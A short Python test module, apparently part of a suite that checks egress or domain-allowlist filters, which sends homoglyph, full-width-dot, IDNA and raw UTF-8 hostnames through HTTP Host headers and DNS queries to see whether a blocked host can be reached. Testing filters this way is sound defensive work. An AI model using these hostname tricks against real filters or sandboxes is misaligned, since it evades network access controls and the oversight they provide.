# SPDX-License-Identifier: Apache-2.0
"""Homoglyphs, full-width dots and letters, raw UTF-8."""
import dns
from bypass import get

TITLE = "homoglyphs, full-width dots, raw UTF-8 names"
THREAT = "6"


def attack(c):
    for name in ("\u043ek.test", "ok.t\u0435st", "xn--k-7tb.test", "\uff4f\uff4b\uff0eevil.test",
                 "ok\u3002evil.test", "o\u212a.test.evil.test"):
        with c.step(ascii(name)) as token:
            try:
                wire = name.encode("idna").decode()
            except UnicodeError:
                wire = name.encode("utf-8").decode("latin1")
            if c.proxy:
                c.send(name, 80, get(wire, f"/{token}"))
                continue
            c.send(wire if wire.isascii() else "evil.test", 80, get(wire, f"/{token}"))
    if c.proxy:
        return
    for raw in ("ok\u3002test", "\uff4f\uff4b.test", "\u043ek.test"):
        with c.step(f"raw UTF-8 question {ascii(raw)}") as token:
            c.udp(c.resolver() or c.e, 53, dns.query([token.encode(), raw.encode("utf-8"), b"test"]))
        with c.step(f"raw UTF-8 Host {ascii(raw)}") as token:
            c.send("ok.test", 80, get(raw.encode("utf-8").decode("latin1"), f"/{token}"))
